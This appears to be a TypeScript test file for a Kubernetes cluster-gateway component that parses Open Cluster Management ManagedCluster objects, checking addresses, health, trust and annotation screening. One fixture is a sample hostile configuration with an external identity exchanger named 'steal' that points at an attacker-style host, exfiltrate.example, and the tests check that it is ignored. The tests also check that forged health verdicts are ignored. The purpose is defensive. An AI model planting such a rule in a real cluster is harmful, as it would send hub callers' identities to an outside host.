import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { KubeList, KubeObject, WatchEvent } from '../../../shared/kube/client.ts';
import type { InformerClient } from '../../../shared/kube/informer.ts';
import { failureStatus, StatusError } from '../../../shared/kube/status.ts';
import {
  ManagedClusterSource,
  managedClusterHealth,
  parseManagedCluster,
  trustedManagedClusterHealth,
} from './managedcluster-source.ts';
import { caPem, managedCluster } from './test-fixtures.ts';
import { signVerdict } from './verdict-signature.ts';

test('address and CA come from the first client config; health from Available', () => {
  const info = parseManagedCluster(
    managedCluster('spoke', {
      url: 'https://spoke:6443',
      ca: caPem,
      available: 'True',
      labels: { env: 'prod' },
    }),
  );
  assert.equal(info.address, 'https://spoke:6443');
  assert.equal(info.caBundle, caPem);
  assert.deepEqual(info.health, { healthy: true, reason: 'ManagedClusterAvailable' });
  assert.deepEqual(info.labels, { env: 'prod' });
  assert.equal(info.creationTimestamp, '2025-12-01T00:00:00Z');
});

test('no client config, or a bad URL, is an address problem', () => {
  assert.match(
    parseManagedCluster(managedCluster('a')).addressProblem ?? '',
    /no spec.managedClusterClientConfigs\[0\].url/,
  );
  assert.match(parseManagedCluster(managedCluster('a', { url: 'ftp://x' })).addressProblem ?? '', /https/);
});

test('only an accepted, joined ManagedCluster with an https URL provides an address and CA', () => {
  const trusted = parseManagedCluster(managedCluster('a', { url: 'https://a', ca: caPem }));
  assert.equal(trusted.distrust, undefined);
  assert.equal(trusted.address, 'https://a');
  const notAccepted = parseManagedCluster(
    managedCluster('a', { url: 'https://a', ca: caPem, hubAcceptsClient: false }),
  );
  assert.match(notAccepted.distrust ?? '', /not accepted by the hub \(spec.hubAcceptsClient is not true\)/);
  assert.equal(notAccepted.address, undefined);
  assert.equal(notAccepted.caBundle, undefined);
  for (const joined of ['False', 'Unknown', 'missing'] as const) {
    const info = parseManagedCluster(managedCluster('a', { url: 'https://a', ca: caPem, joined }));
    assert.match(info.distrust ?? '', new RegExp(`has not joined \\(ManagedClusterJoined is ${joined}\\)`));
    assert.equal(info.address, undefined);
  }
  for (const url of ['http://a:8080', 'HTTP://a']) {
    const http = parseManagedCluster(managedCluster('a', { url, ca: caPem }));
    assert.equal(http.distrust, undefined);
    assert.equal(http.address, undefined, url);
    assert.equal(http.caBundle, undefined, url);
    assert.match(http.addressProblem ?? '', /must be https:\/\//);
  }
  // Without a scheme, like client-go: https.
  assert.equal(parseManagedCluster(managedCluster('a', { url: 'a:6443' })).address, 'https://a:6443');
});

test('an untrusted ManagedCluster has no say in health', () => {
  const unavailable = { url: 'https://a', available: 'False' } as const;
  assert.equal(
    trustedManagedClusterHealth(managedCluster('a', { ...unavailable, hubAcceptsClient: false })),
    undefined,
  );
  assert.equal(
    trustedManagedClusterHealth(managedCluster('a', { ...unavailable, joined: 'missing' })),
    undefined,
  );
  assert.equal(trustedManagedClusterHealth(managedCluster('a', unavailable))?.healthy, false);
});

test('Available False, Unknown and missing are unhealthy with a reason', () => {
  assert.deepEqual(managedClusterHealth(managedCluster('a', { available: 'False' }).status?.conditions), {
    healthy: false,
    reason: 'ManagedClusterLeaseUpdateStopped: Registration agent stopped updating its lease.',
  });
  assert.deepEqual(managedClusterHealth([{ type: 'ManagedClusterConditionAvailable', status: 'Unknown' }]), {
    healthy: false,
    reason: 'ManagedClusterConditionAvailable=Unknown',
  });
  assert.deepEqual(managedClusterHealth([]), {
    healthy: false,
    reason: 'ManagedCluster has no ManagedClusterConditionAvailable condition',
  });
});

test('without the ManagedCluster CRD the source is synced and absent, then picks clusters up', async () => {
  let lists = 0;
  const client: InformerClient = {
    list: async <T extends KubeObject>(path: string) => {
      assert.match(path, /^\/apis\/cluster.open-cluster-management.io\/v1\/managedclusters\?/);
      if (lists++ === 0)
        throw new StatusError(failureStatus(404, 'the server could not find the requested resource'));
      return {
        metadata: { resourceVersion: '2' },
        items: [managedCluster('spoke', { url: 'https://s' })],
      } as KubeList<T>;
    },
    watch: async function* <T extends KubeObject>(
      _path: string,
      signal?: AbortSignal,
    ): AsyncGenerator<WatchEvent<T>> {
      await new Promise((resolve) => signal?.addEventListener('abort', resolve, { once: true }));
    },
  };
  const seen: string[] = [];
  const source = new ManagedClusterSource(
    client,
    { informer: { sleep: async () => {} } },
    { setManagedCluster: (name, info) => seen.push(`${name}:${info?.address ?? 'deleted'}`) },
  );
  source.start();
  await source.informer.synced;
  const deadline = Date.now() + 2000;
  while (seen.length === 0 && Date.now() < deadline) await new Promise((resolve) => setImmediate(resolve));
  source.stop();
  assert.equal(source.hasSynced, true);
  assert.equal(source.absent, false);
  assert.deepEqual(seen, ['spoke:https://s']);
});

// What a managed cluster's klusterlet may write on its own ManagedCluster (OCM v1.3.1 registration
// gives it `update` there) is screened: nothing that sends identities elsewhere or forges a verdict.
const withAnnotations = (annotations: Record<string, string>, uid = 'uid-1') => {
  const mc = managedCluster('spoke', { url: 'https://spoke:6443', available: 'True' });
  mc.metadata = { ...mc.metadata, uid, annotations };
  return mc;
};
const inline = 'cluster.core.oam.dev/cluster-gateway-proxy-configuration';
const reference = 'gateway.cluster.core.oam.dev/proxy-configuration';
const ignoredKey = 'gateway.cluster.core.oam.dev/ignored-managedcluster-settings';
const config = (rule: string) => `apiVersion: cluster.core.oam.dev/v1alpha1
kind: ClusterGatewayProxyConfiguration
spec:
  clientIdentityExchanger:
    rules:
${rule}`;
const externalRule = `      - name: steal
        type: ExternalIdentityExchanger
        source: { userPattern: ".*" }
        url: https://exfiltrate.example:8443/review
`;
const staticRule = `      - name: local
        type: StaticMappingIdentityExchanger
        source: { user: alice }
        target: { user: bob }
`;

test('an inline configuration with an external exchanger is ignored, saying why; others are kept', () => {
  const stealing = parseManagedCluster(withAnnotations({ [inline]: config(externalRule + staticRule) }));
  assert.equal(stealing.annotations[inline], undefined);
  assert.equal(stealing.ignoredSettings?.length, 1);
  assert.match(
    stealing.ignoredSettings?.[0] ?? '',
    /cluster-gateway-proxy-configuration on ManagedCluster "spoke" is ignored: its rule "steal" is an ExternalIdentityExchanger, which sends hub callers' identities to a URL/,
  );
  assert.doesNotMatch(stealing.ignoredSettings?.[0] ?? '', /exfiltrate\.example/, 'the URL is not echoed');
  const local = parseManagedCluster(withAnnotations({ [inline]: config(staticRule) }));
  assert.equal(local.annotations[inline], config(staticRule), "the original's annotation keeps working");
  assert.equal(local.ignoredSettings, undefined);
  // Invalid: left for the configuration store to refuse (it never comes into force).
  const invalid = parseManagedCluster(withAnnotations({ [inline]: 'spec: [' }));
  assert.equal(invalid.annotations[inline], 'spec: [');
});

test('a reference to a ClusterGatewayProxyConfiguration is not taken from a ManagedCluster', () => {
  const info = parseManagedCluster(withAnnotations({ [reference]: 'admins-config' }));
  assert.equal(info.annotations[reference], undefined);
  assert.match(
    info.ignoredSettings?.[0] ?? '',
    /may not choose which ClusterGatewayProxyConfiguration applies/,
  );
});

test("the prober's verdict on a ManagedCluster counts only with the gateway's signature", () => {
  const key = Buffer.from('k'.repeat(32));
  const verdict = { 'status.cluster.core.oam.dev/probed-healthy': 'true' };
  const signature = signVerdict(key, { uid: 'uid-1', name: 'spoke', healthy: 'true', reason: '' });
  const signed = {
    ...verdict,
    'status.cluster.core.oam.dev/probed-signature': signature,
  };
  const good = parseManagedCluster(withAnnotations(signed), { verdictKey: key });
  assert.deepEqual(good.probe, { healthy: true });
  assert.equal(good.ignoredSettings, undefined);
  assert.equal(good.annotations['status.cluster.core.oam.dev/probed-signature'], undefined, 'not shown');
  for (const [why, info] of [
    ['no key', parseManagedCluster(withAnnotations(signed))],
    ['unsigned', parseManagedCluster(withAnnotations(verdict), { verdictKey: key })],
    ['another cluster', parseManagedCluster(withAnnotations(signed, 'uid-2'), { verdictKey: key })],
    [
      'reason added',
      parseManagedCluster(withAnnotations({ ...signed, 'status.cluster.core.oam.dev/probed-reason': 'x' }), {
        verdictKey: key,
      }),
    ],
  ] as const) {
    assert.equal(info.probe, undefined, why);
    assert.equal(info.annotations['status.cluster.core.oam.dev/probed-healthy'], undefined, why);
    assert.match(info.ignoredSettings?.[0] ?? '', /do not carry this gateway's signature/, why);
  }
  // The operator's mark is kept; a copy of the gateway's own notice is not.
  const marked = parseManagedCluster(
    withAnnotations({ 'status.cluster.core.oam.dev/healthy': 'false', [ignoredKey]: 'forged' }),
  );
  assert.equal(marked.annotations['status.cluster.core.oam.dev/healthy'], 'false');
  assert.equal(marked.annotations[ignoredKey], undefined);
});
